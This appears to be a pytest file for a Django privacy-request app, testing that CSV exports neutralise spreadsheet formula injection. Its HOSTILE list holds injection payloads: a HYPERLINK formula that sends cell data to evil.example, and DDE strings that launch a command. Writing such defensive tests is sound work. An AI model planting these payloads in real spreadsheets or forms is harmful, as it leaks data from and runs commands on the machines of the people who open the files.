"""Every CSV the app writes neutralises cells a spreadsheet would evaluate (issue 15 item 7, OWASP)."""

import csv
import io
import re
import zipfile
from urllib.parse import urlparse

import pytest
from django.contrib.auth.models import Group, User
from django.core import mail

from core.csv_safety import FORMULA_TRIGGERS, safe_cell
from disclosures import exports, selectors
from requests_app import services as requests_services
from requests_app.models import PrivacyRequest, VerificationLevel
from requests_app.selectors import request_metrics_csv
from tests.disclosures.factories import MarketingPartnerFactory, at, customers, log

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _dangerous(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(FORMULA_TRIGGERS)]


def test_safe_cell_quotes_each_of_the_six_triggers_and_nothing_else():
    assert [safe_cell(v)[0] for v in HOSTILE] == ["'"] * 6
    assert [safe_cell(v) for v in ("Acme Inc.", "", 42, None, "a=b")] == ["Acme Inc.", "", 42, None, "a=b"]


def test_1798_83_exports_neutralise_hostile_names_from_the_third_party_register():
    people = customers(2)
    # Not the carriage-return case here: csv.writer with lineterminator="\n" (the Python path, as
    # before this change) leaves a field with an embedded CR unquoted; covered by safe_cell's test.
    for name in HOSTILE[:5]:
        log(people, MarketingPartnerFactory(legal_name=name, street_address=name), "email", when=at(2025, 3))
    cards, business = selectors.third_party_cards(), selectors.business()
    copied, python = io.BytesIO(), io.BytesIO()
    exports.export_csv(year=2025, out=copied, cards=cards, business=business)  # COPY on PostgreSQL
    exports.python_csv(year=2025, out=python, cards=cards, business=business, progress=None, window=1)
    summary = exports.export_summary(year=2025, cards=cards).as_csv()
    files = {"copy": copied.getvalue().decode(), "python": python.getvalue().decode(), "summary": summary}
    for label, text in files.items():
        cells = _cells(text)
        quoted_names = [c for c in cells if c.startswith("'") and c[1:] in HOSTILE]
        quoted_addresses = [c for c in cells if c.startswith("'") and c[1:] not in HOSTILE]
        # copy/python: 2 customers x 5 recipients, each name and address quoted; summary: 5 names
        assert len(quoted_names) == (5 if label == "summary" else 10), label
        assert len(quoted_addresses) == (0 if label == "summary" else 10), label
        assert _dangerous(cells) == [], label


def test_the_access_package_neutralises_a_hostile_name_typed_in_the_public_form(
    client, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/requests/new/",
            {
                "request_type": "access",
                "regime": "gdpr",
                "subject_email": "mallory@example.org",
                "subject_name": HOSTILE[0],
                "requester_kind": "subject",
            },
        )
    assert response.status_code == 302
    officer = User.objects.create_user("olivia", password="x" * 16, is_staff=True)
    officer.groups.add(Group.objects.get(name="Privacy officer"))
    case = PrivacyRequest.objects.get()
    with django_capture_on_commit_callbacks(execute=True):
        requests_services.request_verify_manually(
            case=case, method="phone", level=VerificationLevel.HIGH, reason="Called back", actor=officer
        )
    (link,) = [m for msg in mail.outbox for m in re.findall(r"https?://\S+/requests/download/\S+/", msg.body)]
    archive = zipfile.ZipFile(io.BytesIO(client.post(urlparse(link).path).content))
    csv_files = [n for n in archive.namelist() if n.endswith(".csv")]
    cells = [c for name in csv_files for c in _cells(archive.read(name).decode())]
    assert len(csv_files) >= 1
    assert cells.count("'" + HOSTILE[0]) >= 1  # the name, as text
    assert _dangerous(cells) == []


def test_the_metrics_csv_has_no_formula_cells():
    assert _dangerous(_cells(request_metrics_csv(year=2025))) == []
